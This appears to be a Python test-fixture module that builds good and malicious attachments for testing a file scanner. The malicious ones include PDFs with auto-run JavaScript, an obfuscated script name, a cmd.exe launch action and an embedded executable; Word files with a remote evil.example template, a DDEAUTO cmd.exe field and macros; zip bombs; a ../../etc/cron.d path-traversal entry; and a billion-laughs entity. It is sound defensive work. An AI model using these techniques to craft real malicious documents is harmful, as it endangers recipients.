"""Files to attach, good and bad, each made here: none is kept in the repository."""

import io
import struct
import zipfile
import zlib
from typing import Any

import docx
from odfdo import Document as OpenDocument
from odfdo import Paragraph
from openpyxl import Workbook
from pptx import Presentation
from pptx.util import Inches
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST" + "-FILE!$H+H*"
"""The string that every scanner takes for an infection, in two parts for the sake of scanners."""


def pdf(text: str = "Keep vehicles away from crowds.", **writes: Any) -> bytes:
    """A page with a line of text; `encrypt` gives it a password, `change` gets the writer."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 300)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    fonts = DictionaryObject({NameObject("/F1"): writer._add_object(font)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 12 Tf 20 200 Td ({text}) Tj ET".encode())
    page[NameObject("/Contents")] = writer._add_object(stream)
    if change := writes.get("change"):
        change(writer)
    if password := writes.get("encrypt"):
        writer.encrypt(password, "owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_script() -> bytes:
    """A PDF that runs JavaScript when it is opened."""

    def change(writer: PdfWriter) -> None:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1)"),
            }
        )
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return pdf(change=change)


def pdf_with_hidden_script() -> bytes:
    """The same, with the script's name written by codes."""
    return pdf_with_script().replace(b"/JavaScript", b"/Java#53cript")


def pdf_that_launches() -> bytes:
    """A PDF that starts a program when its page is opened."""

    def change(writer: PdfWriter) -> None:
        launch = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        opened = DictionaryObject({NameObject("/O"): launch})
        writer.pages[0][NameObject("/AA")] = opened

    return pdf(change=change)


def pdf_with_attachment() -> bytes:
    """A PDF that carries another file."""
    return pdf(change=lambda writer: writer.add_attachment("inside.exe", b"MZ..."))


def pdf_with_form() -> bytes:
    """A PDF with an XFA form, in which scripts are at home."""

    def change(writer: PdfWriter) -> None:
        form = DictionaryObject({NameObject("/XFA"): ArrayObject()})
        writer.root_object[NameObject("/AcroForm")] = form

    return pdf(change=change)


def word(text: str = "Lock the doors, then call.") -> bytes:
    """A document."""
    document = docx.Document()
    document.add_heading("Lockdown", 1)
    document.add_paragraph(text)
    document.add_table(1, 1).rows[0].cells[0].text = "In a cell"
    return _saved(document)


def workbook() -> bytes:
    """A workbook."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Gate", "Guards"])
    sheet.append(["Northern", 3])
    return _saved(book)


def slides() -> bytes:
    """A presentation."""
    shown = Presentation()
    slide = shown.slides.add_slide(shown.slide_layouts[5])
    slide.shapes.title.text = "Suspicious items"
    box = slide.shapes.add_textbox(Inches(1), Inches(2), Inches(3), Inches(1))
    box.text_frame.text = "Hidden, obviously suspicious, not typical"
    return _saved(shown)


def open_document(kind: str, text: str = "Drones over the stadium") -> bytes:
    """An OpenDocument: text, spreadsheet or presentation."""
    document = OpenDocument(kind)
    if kind == "text":
        document.body.append(Paragraph(text))
    return _saved(document)


def _saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(
    body: bytes,
    add: dict[str, bytes] | None = None,
    replace: dict[str, tuple[bytes, bytes]] | None = None,
) -> bytes:
    """An archive with entries added, or with words in some replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(out, "w") as new:
        for entry in old.infolist():
            content = old.read(entry)
            before, after = (replace or {}).get(entry.filename, (b"", b""))
            assert before in content, f"{before!r} is not in {entry.filename}"
            new.writestr(entry, content.replace(before, after) if before else content)
        for name, content in (add or {}).items():
            new.writestr(name, content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def word_with_macros() -> bytes:
    """What Word calls a docm, under another name."""
    main = b"wordprocessingml.document.main+xml"
    return repacked(
        word(),
        {"word/vbaProject.bin": b"\xcc\x61" + bytes(200)},
        {
            "[Content_Types].xml": (
                b"application/vnd.openxmlformats-officedocument." + main,
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )


def word_with_template_elsewhere() -> bytes:
    """A document that fetches its template, and the template's macros, when it is opened."""
    relation = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"'
        b' TargetMode="External"/></Relationships>'
    )
    return repacked(word(), {"word/_rels/settings.xml.rels": relation})


def word_with_field() -> bytes:
    """A document with a field that asks another program."""
    field = (
        b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText></w:r></w:p>'
    )
    return repacked(word(), replace={"word/document.xml": (b"<w:body>", b"<w:body>" + field)})


def word_with_workbook() -> bytes:
    """A document that carries another."""
    return repacked(word(), {"word/embeddings/sheet1.xlsx": workbook()})


def word_encrypted() -> bytes:
    """How an encrypted document begins and what is in it: a compound file, no archive."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le")


def word_bomb() -> bytes:
    """A document in which a few kilobytes unpack to a hundred megabytes."""
    return repacked(word(), {"word/media/image1.png": bytes(100 * 1024 * 1024)})


def word_of_many() -> bytes:
    """A document of more parts than any has."""
    return repacked(word(), {f"word/media/{number}.xml": b"<a/>" for number in range(4000)})


def word_bomb_that_lies() -> bytes:
    """A bomb whose directory says that it is small."""
    large = 80 * 1024 * 1024
    body = bytearray(repacked(word(), {"word/big.xml": bytes(large)}))
    told, lie = struct.pack("<I", large), struct.pack("<I", 100)
    return bytes(body.replace(told, lie))


def word_overlapping() -> bytes:
    """An archive whose directory names the same bytes many times (D. Fifield, 2019)."""
    entry = b"".join(
        (
            b"PK\x01\x02",
            struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, 0, 50, 5000, 5, 0, 0, 0, 0, 0, 0),
        )
    )
    packed = zlib.compress(bytes(5000), wbits=-15).ljust(50, b"\0")
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, 50, 5000, 5, 0)
    body = local + b"a.xml" + packed
    names = [f"{number:05d}".encode() for number in range(50)]
    directory = b"".join(entry + name for name in names)
    end = struct.pack("<HHHHIIH", 0, 0, 50, 50, len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


def word_leading_out() -> bytes:
    """An archive with a way out of the folder that it would be unpacked into."""
    return repacked(word(), {"../../etc/cron.d/x": b"x"})


def word_with_entity() -> bytes:
    """A document whose types grow by a thousand laughs when they are read."""
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    return repacked(word(), replace={"[Content_Types].xml": (b"<Types", laughs + b"<Types")})


def odt_with_macros() -> bytes:
    """A text with a script of its own."""
    return repacked(open_document("text"), {"Basic/Standard/Module1.xml": b"<a/>"})


def odt_with_event() -> bytes:
    """A text that calls a script when something happens."""
    event = (
        b'<office:scripts><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:'
        b'xmlns:script:1.0" script:language="ooo:script"/></office:scripts>'
    )
    return repacked(
        open_document("text"), replace={"content.xml": (b"<office:body>", event + b"<office:body>")}
    )


def odt_encrypted() -> bytes:
    """A text whose manifest says that it is encrypted."""
    said = b'<manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>'
    body = open_document("text")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        manifest = archive.read("META-INF/manifest.xml")
    assert b"</manifest:manifest>" in manifest
    entry = b'<manifest:file-entry manifest:full-path="x" manifest:media-type="">' + said
    end = b"</manifest:manifest>"
    return repacked(body, replace={"META-INF/manifest.xml": (end, entry + end)})


def png() -> bytes:
    """A picture of one point."""

    def chunk(name: bytes, body: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(name + body))
        return struct.pack(">I", len(body)) + name + body + check

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    """How a picture of the JPEG kind begins and ends."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xff\xd9"


def webp() -> bytes:
    """How a picture of the WebP kind begins."""
    return b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00" + bytes(13)


def mp4(size: int = 64) -> bytes:
    """How a video begins, with as many bytes as asked."""
    box = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"
    return box + b"\x00\x00\x00\x08free" + bytes(max(0, size - 32))


WEBM = b"\x1a\x45\xdf\xa3\x93\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm" + bytes(64)
"""The head of a WebM file (RFC 9559): EBML with its DocType."""

MATROSKA = WEBM.replace(b"\x84webm", b"\x88matroska")
CAPTIONS = b"WEBVTT\n\n00:00.000 --> 00:02.000\nRun, hide, tell.\n"


def pages_of(body: bytes) -> int:
    """How many pages a PDF has."""
    return len(PdfReader(io.BytesIO(body)).pages)
